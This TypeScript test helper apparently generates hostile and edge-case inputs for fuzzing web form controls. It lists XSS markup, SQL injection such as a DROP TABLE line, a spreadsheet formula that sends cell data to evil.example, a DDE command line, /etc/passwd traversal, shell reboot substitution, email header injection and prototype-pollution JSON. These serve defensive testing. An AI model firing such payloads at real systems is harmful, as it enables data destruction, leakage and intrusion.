/** What is sent under one name: not at all, once or many times; `what` names it in a failure. */
export type Hostile = { what: string; texts: readonly string[] };

/** Stands in markup that must never become an element, and in script that must never run. */
export const MARK = "data-hostile";

const RUN = "window.__ran=1";
const one = (what: string, text: string): Hostile => ({ what, texts: [text] });

/** One code point of each place where counting, cutting or encoding goes wrong. */
const FAMILY = "\u{1F469}\u{1F3FD}\u200D\u{1F33E}\u200D\u{1F469}\u200D\u{1F467}";

const MARKUP = [
  one("a script", `<script ${MARK}>${RUN}</script>`),
  one("an image that fails", `"><img ${MARK} src=x onerror=${RUN}>`),
  one("a way out of an attribute", `' ${MARK} autofocus onfocus=${RUN} x='" ${MARK} onmouseover="${RUN}`),
  one("a way out of text", `</textarea></title></option></script><svg ${MARK} onload=${RUN}>`),
  one("an address that runs", `javascript:${RUN}//`),
  one("a comment", `<!--<script ${MARK}>--><script ${MARK}>${RUN}</script>`),
  one("a template", `{{constructor.constructor("${RUN}")()}}\${${RUN}}`),
  one("an entity", `&lt;script ${MARK}&gt;&#x3C;script ${MARK}>${RUN}</script>`),
];

const COMMANDS = [
  one("SQL", "'; DROP TABLE users; --"),
  one("SQL that is always true", "%' OR '1'='1' /*"),
  one("a backslash", "\\'; SELECT pg_sleep(9); --\\"),
  one("a formula", `=HYPERLINK("http://evil.example/?"&A1,"klik")`),
  one("a command in a sheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
  one("a path", "../../../../etc/passwd"),
  one("a shell", "$(reboot) `reboot` | reboot"),
  one("a header", "aman\r\nBcc: semua@evil.example\r\n\r\nisi"),
  one("__proto__", "__proto__"),
  one("constructor", "constructor"),
  one("JSON", `{"$ne":null,"__proto__":{"role":"admin"}}`),
];

const CHARACTERS = [
  one("NUL", "sa\0wah"),
  one("control characters", "\u0001\u001B[31msawah\u0008\u0085"),
  one("half a character", "sawah \uD800 padi"),
  one("the other half", "\uDC00"),
  one("right to left", "kebun \u202Egnp.exe"),
  one("a script from right to left", "حقل الأرز"),
  one("scripts of Indonesia and others", "ꦏꦧꦸꦥꦠꦺꦤ᭄ ᨀᨅᨘᨄᨈᨛ 漢字 ไทย"),
  one("a family", `${FAMILY}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}`),
  one("marks upon marks", `s${"\u0336\u0337\u0300".repeat(30)}`),
  one("nothing to see", "\u200B\u200D\uFEFF\u2060"),
  one("only blanks", " \t\u3000 "),
  one("line separators", "a\u2028b\u2029c\u000Bd"),
];

const LENGTHS = [
  one("5,000 characters", "panjang ".repeat(625)),
  one("5,000 families", FAMILY.repeat(5_000)),
  one("200,000 characters in one word", "x".repeat(200_000)),
  one("3,000 lines", "a\n".repeat(3_000)),
];

const NUMBERS = [
  "NaN",
  "Infinity",
  "1e309",
  "-0",
  "-1",
  "0",
  "1e21",
  "2147483648",
  "9007199254740991",
  "9007199254740993",
  "99999999999999999999",
  "0x10",
  "1,5",
  "1.234.567,89",
  "1.5.5",
  "١٢٣",
  "½",
  `0.${"0".repeat(400)}1`,
].map((text) => one(`the number ${text.slice(0, 24)}`, text));

const DAYS = [
  "2026-02-30",
  "0000-00-00",
  "0001-01-01",
  "9999-12-31",
  "10000-01-01",
  "-000001-01-01",
  "2026-13-01",
  "24/11/2026",
  "2026-11-24T00:00Z",
].map((text) => one(`the day ${text}`, text));

const ADDRESSES = [
  "a@b",
  `"<script ${MARK}>"@contoh.id`,
  "a@contoh.id\r\nBcc: b@evil.example",
  `${"a".repeat(300)}@contoh.id`,
  "a@contoh.id,b@contoh.id",
  "a@xn--.id",
  "+62".repeat(50),
  "+6281234567890;ext=1",
].map((text) => one(`the address ${text.slice(0, 24)}`, text));

const CHOICES = [one("no choice of the list", "tidak_ada"), one("an order in a text", "0"), one("a list", `["a","b"]`)];

/** How often a name is sent; `given` is what the form would send. */
const counts = (given: string): Hostile[] => [
  { what: "nothing under the name", texts: [] },
  one("the empty text", ""),
  { what: "the same twenty times", texts: Array.from({ length: 20 }, () => given) },
  {
    what: "twenty different texts",
    texts: Array.from({ length: 20 }, (_, place) => (place === 0 ? given : `lain ${place}`)),
  },
];

const ORDINARY = [MARKUP, COMMANDS, CHARACTERS, LENGTHS];

/** The hostile values of a control by its type, in groups of one kind each; `given` is what the form would send. */
export function hostileValues({ type, given }: { type: string; given: string }): Hostile[][] {
  const often = counts(given);
  if (type === "date") return [...ORDINARY, DAYS, often];
  if (type === "email" || type === "tel") return [...ORDINARY, ADDRESSES, often];
  if (["radio", "checkbox", "select-one"].includes(type)) return [...ORDINARY, CHOICES, often];
  // Numbers are typed into text fields here, and stand in hidden ones.
  return [...ORDINARY, NUMBERS, [...ADDRESSES, ...DAYS, ...CHOICES], often];
}

/** One value of the first kind, markup, and one of another, others for each `seed`; all without a seed. */
export function chosenValues(groups: readonly Hostile[][], seed: string | null): Hostile[] {
  if (seed === null) return groups.flat();
  const other = 1 + (hash(seed) % (groups.length - 1));
  return [0, other].flatMap((place) => {
    const group = groups[place] ?? [];
    return group.slice(hash(`${seed} ${place}`) % group.length).slice(0, 1);
  });
}

/** FNV-1a: the same text gives the same number everywhere. */
function hash(text: string): number {
  let value = 0x811c9dc5;
  for (let place = 0; place < text.length; place += 1) {
    value = Math.imul(value ^ text.charCodeAt(place), 0x01000193);
  }
  return value >>> 0;
}
